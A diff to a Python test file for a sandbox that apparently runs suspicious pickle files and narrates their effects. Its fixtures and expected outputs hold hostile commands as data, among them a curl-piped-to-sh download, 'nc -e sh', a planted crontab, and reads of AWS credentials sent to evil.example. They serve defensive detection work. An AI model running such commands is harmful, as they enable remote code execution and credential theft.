@@ -9,7 +9,7 @@ from typing import Any
 from hypothesis import given
 from hypothesis import strategies as st
 
-from sandbox.facts import Conversation, Event, Hint, Process, StaticFacts, Story
+from sandbox.facts import Conversation, Event, GlobalUse, Hint, Process, StaticFacts, Story
 from sandbox.judge.story import MOST_ROWS, account
 from sandbox.judge.teller import MOST_NODES
 from sandbox.report.story import told
@@ -25,6 +25,7 @@ INET = {"family": "AF_INET", "address": "203.0.113.9", "port": "80"}
 AWS = {"name": "AWS credentials", "path": "/home/user/.aws/credentials"}
 CALLS = replace(STATIC, globals=(use("posix.system"), use("builtins.exec")))
 SYSTEM = Hint("os.system", "sh", "posix.system")
+STEAL = "Python at <string>:3 steal, through /usr/lib/python3.11/socket.py:3 connect (says the load)"
 CODE = Hint("socket.connect", "", "builtins.exec", ("/usr/lib/python3.11/socket.py:3 connect", "<string>:3 steal"))
 
 
@@ -81,7 +82,7 @@ def test_a_shell_that_fetches_a_script() -> None:
     for pid in (CURL, SECOND, SHELL):
         rows.add("process.exit", pid, value="0")
     assert lines(story(rows, said())) == [
-        "unpickling calls posix.system (data.pkl, offset 0x1f) -> sh -c 'curl http://203.0.113.9/x | sh'",
+        f"unpickling calls posix.system (data.pkl, offset 0x1f) (says the load) -> {PIPE}",
         "  -> curl connects 203.0.113.9:80 -> GET /x -> got 200, 0 bytes",
         "  -> sh ends with 0",
     ]
@@ -89,7 +90,9 @@ def test_a_shell_that_fetches_a_script() -> None:
 
 def test_under_evaluate_the_first_call_is_refused() -> None:
     rows = Rows().add("process.fork", LOADER, flags="vfork").add("process.exec", 8, "denied", argv="sh -c id")
-    assert lines(story(rows)) == ["unpickling calls posix.system (data.pkl, offset 0x1f) -> sh -c id (denied)"]
+    assert lines(story(rows)) == [
+        "unpickling calls posix.system (data.pkl, offset 0x1f) (says the load) -> sh -c id (denied)"
+    ]
 
 
 def test_python_code_is_told_by_its_innermost_line_and_names_lead_to_addresses() -> None:
@@ -99,18 +102,48 @@ def test_python_code_is_told_by_its_innermost_line_and_names_lead_to_addresses()
     away = {"family": "AF_INET", "address": "198.18.0.1", "port": "443"}
     rows.add("net.connect", LOADER, "faked", name="evil.example", **away)
     rows.add("decoy.sent", LOADER, "faked", name=AWS["name"], address="198.18.0.1", port="443", value="base64")
-    spoken = said(LOADER, b"POST /up HTTP/1.1\r\n\r\nx", b"", address="198.18.0.1", port=443, name="evil.example")
+    spoken = said(LOADER, b"POST /up HTTP/1.1\r\n\r\nx", b"", address="198.18.0.1", port=443, at=0.55)
     found = story(rows, spoken, hints=(CODE,))
     assert lines(found) == [
-        "unpickling calls builtins.exec (data.pkl, offset 0x1f) -> Python at <string>:3 steal",
+        f"unpickling calls builtins.exec (data.pkl, offset 0x1f) (says the load) -> {STEAL}",
         "  -> reads the AWS credentials (/home/user/.aws/credentials)",
-        "  -> asks for the name evil.example -> connects 198.18.0.1:443 (evil.example) -> POST /up with 1 byte",
+        "  -> asks for the name evil.example -> connects evil.example:443 -> POST /up with 1 byte",
         "    -> got no answer",
         "    -> sends the decoy AWS credentials to 198.18.0.1:443 as base64",
     ]
     stolen = next(node for node in found.nodes if node.kind == "decoy.read")
     assert stolen.pid == LOADER
     assert [node.hint for node in found.nodes[:3]] == [True, True, False]
+
+
+def test_what_was_looked_up_is_told_by_its_name() -> None:
+    away = {"family": "AF_INET", "address": "198.18.0.1", "port": "443"}
+    rows = Rows().add("net.send", LOADER, "faked", host="evil.example", **away)
+    rows.add("decoy.sent", LOADER, "faked", name=AWS["name"], value="gzip", host="evil.example", **away)
+    other = away | {"address": "198.18.0.2"}
+    rows.add("net.connect", LOADER, name="x (denied)", **other).add("net.connect", LOADER, name="8.8.8.8", **other)
+    assert lines(story(rows, hints=())) == [
+        "the load sends to evil.example:443 -> sends the decoy AWS credentials to evil.example:443 as gzip",
+        "the load connects 198.18.0.2:443 (x2)",
+    ]
+    spoken = said(99, port=81, name="evil.example")
+    assert lines(story(Rows(), spoken))[0].startswith("evil.example:81: GET /x")
+
+
+def test_what_a_program_calls_itself_is_not_what_runs() -> None:
+    rows = Rows().run(SHELL, LOADER, "ls -c 'curl x'", "/bin/sh")
+    assert "-> /bin/sh (calls itself ls) -c 'curl x'" in lines(story(rows))[0]
+    rows = Rows().run(SHELL, LOADER, "ls", "/tmp/x (calls itself ls)")
+    assert "-> '/tmp/x (calls itself ls)' (calls itself ls)" in lines(story(rows))[0]
+
+
+def test_paths_answer_nothing() -> None:
+    rows = Rows().add("file.write", LOADER, path="/tmp/a (denied)").add("file.write", LOADER, path="/tmp/" + "a" * 500)
+    rows.add("file.rename", LOADER, "denied", path="/tmp/b -> c", target="/tmp/" + "d" * 500)
+    found = [node.text for node in story(rows, hints=()).nodes]
+    assert found[0] == "the load writes '/tmp/a (denied)'"
+    assert found[2].startswith("the load renames '/tmp/b -> c' to /tmp/ddd")
+    assert found[2].endswith(" (denied)")
 
 
 def test_a_global_that_the_file_does_not_name_is_not_believed() -> None:
@@ -124,12 +157,14 @@ def test_what_comes_after_the_load_is_not_the_unpicklers_call() -> None:
     assert lines(found) == ["after the load -> deletes /home/a"]
     assert found.nodes[-1].phase == "after"
     fresh = story(rows, hints=(SYSTEM, CODE), hint_of={1: 0, 2: 0, 3: 1})
-    assert lines(fresh) == ["after the load -> Python at <string>:3 steal -> deletes /home/a"]
+    assert lines(fresh) == [f"after the load -> {STEAL} -> deletes /home/a"]
 
 
 def test_a_hint_before_the_loads_own_beginning_counts() -> None:
     rows = Rows().add("phase", 0, call="load").add("file.delete", LOADER, path="/home/a")
-    assert lines(story(rows)) == ["unpickling calls posix.system (data.pkl, offset 0x1f) -> deletes /home/a"]
+    assert lines(story(rows)) == [
+        "unpickling calls posix.system (data.pkl, offset 0x1f) (says the load) -> deletes /home/a"
+    ]
 
 
 def test_the_same_again_is_counted() -> None:
@@ -137,7 +172,7 @@ def test_the_same_again_is_counted() -> None:
     for pid in range(20, 32):
         rows.run(pid, LOADER, "nc -e sh", "/bin/nc").add("process.exit", pid, value="1")
     (line,) = lines(story(rows))
-    assert line.endswith("(data.pkl, offset 0x1f) -> nc -e sh -> nc ends with 1 (x12)")
+    assert line.endswith("(data.pkl, offset 0x1f) (says the load) -> nc -e sh -> nc ends with 1 (x12)")
 
 
 def test_a_name_that_is_tried_folder_by_folder_is_one_step() -> None:
@@ -171,14 +206,52 @@ def test_a_planted_tool_tells_what_it_was_given_instead_of_its_connect() -> None
     rows.add("net.connect", SHELL, "faked", family="AF_INET", address="192.0.2.1", port="9")
     sent = b'{"tool": "crontab", "argv": ["crontab", "-"], "environment": {}, "stdin": "YQ=="}'
     (line,) = lines(story(rows, said(SHELL, sent, b"", address="192.0.2.1", port=9)))
-    assert line.endswith("-> crontab - -> the planted crontab is given `crontab -`, with 1 byte of input")
+    assert line.endswith(
+        "-> crontab - -> the planted crontab is given `crontab -`, with 1 byte of input (says the tool)"
+    )
     lied = said(SHELL, b"{}", b"", address="192.0.2.1", port=9)
     assert "connects 192.0.2.1:9" in "".join(lines(story(rows, lied)))
 
 
+def test_a_word_is_a_tools_only_when_its_process_became_that_tool() -> None:
+    sent = b'{"tool": "crontab", "argv": ["crontab", "-"], "environment": {}, "stdin": ""}'
+    word = said(SHELL, sent, b"", address="192.0.2.1", port=9)
+    to_tools = {"family": "AF_INET", "address": "192.0.2.1", "port": "9"}
+    for rows in (
+        Rows().run(SHELL, LOADER, "sh -c id", "/bin/sh"),
+        Rows().run(13, LOADER, "crontab -", "/usr/bin/crontab"),
+        Rows().run(SHELL, LOADER, "crontab -", "/bin/sh"),
+        Rows().add("process.exec", SHELL, "denied", path="/usr/bin/crontab", argv="crontab"),
+    ):
+        text = "\n".join(lines(story(rows.add("net.connect", SHELL, "faked", **to_tools), word)))
+        told_as = "(forged word of a tool) the planted crontab is given `crontab -`"
+        assert f"connects 192.0.2.1:9 -> {told_as}" in text
+
+
+def test_a_call_is_chosen_by_what_was_done_and_not_by_what_was_looked_up_last() -> None:
+    rows = Rows().add("process.exec", LOADER, "denied", argv="sh")
+
+    def cause(hint: Hint, *globals_: GlobalUse) -> str:
+        found = story(rows, hints=(hint,), static=replace(STATIC, globals=globals_)).nodes[0]
+        return found.text if found.kind == "call" else ""
+
+    at = "(data.pkl, offset 0x1f)"
+    system, run, seen = use("posix.system"), use("builtins.exec"), use("torch.device", "reference")
+    memo = Hint("os.system", "sh", "torch.device")
+    assert cause(memo, system, seen) == f"unpickling calls posix.system {at}"
+    assert cause(memo, system, use("torch.device")) == f"unpickling calls posix.system {at}"
+    assert cause(memo, run, seen) == f"unpickling calls builtins.exec {at}"
+    assert cause(memo, seen) == cause(memo, run, use("os.kill"), seen) == "unpickling, last looked up: torch.device"
+    assert cause(memo, use("torch.device")) == f"unpickling calls torch.device {at}"
+    assert cause(replace(memo, because="x"), use("posix.system", "reference")) == ""
+    in_code = Hint("os.system", "", "builtins.exec", ("<string>:1 f",))
+    assert cause(in_code, system, run) == f"unpickling calls builtins.exec {at}"
+
+
 def test_what_loads_do_is_no_story() -> None:
     rows = Rows().add("phase", 0, call="load").add("file.read", LOADER, path="/usr/lib/x.so")
-    rows.add("time.sleep", LOADER, value="0.01").add("memory.library", LOADER).add("process.exit", LOADER, value="0")
+    rows.add("finder.gap", 0, value="there was no time left").add("time.sleep", LOADER, value="0.01")
+    rows.add("memory.library", LOADER).add("process.exit", LOADER, value="0")
     assert story(rows) == Story()
 
 
@@ -192,6 +265,16 @@ def test_a_flood_hides_nothing_of_another_kind_and_is_counted() -> None:
     assert found.more == 2001 - MOST_ROWS
     assert found.nodes[-1].kind == "net.connect"
     assert len(lines(found)) < 10
+
+
+def test_no_flood_takes_the_room_of_what_was_said_and_stolen() -> None:
+    rows = Rows()
+    for pid in range(20, 420):
+        rows.run(pid, LOADER, f"nc {pid}", "/bin/nc")
+    rows.add("net.connect", LOADER, **INET).add("decoy.sent", LOADER, name=AWS["name"], **INET)
+    found = story(rows, said(LOADER))
+    assert len(found.nodes) <= MOST_NODES
+    assert [node.kind for node in found.nodes[-3:]] == ["talk", "answer", "decoy.sent"]
 
 
 def test_processes_are_told_with_what_they_reached_and_touched() -> None:
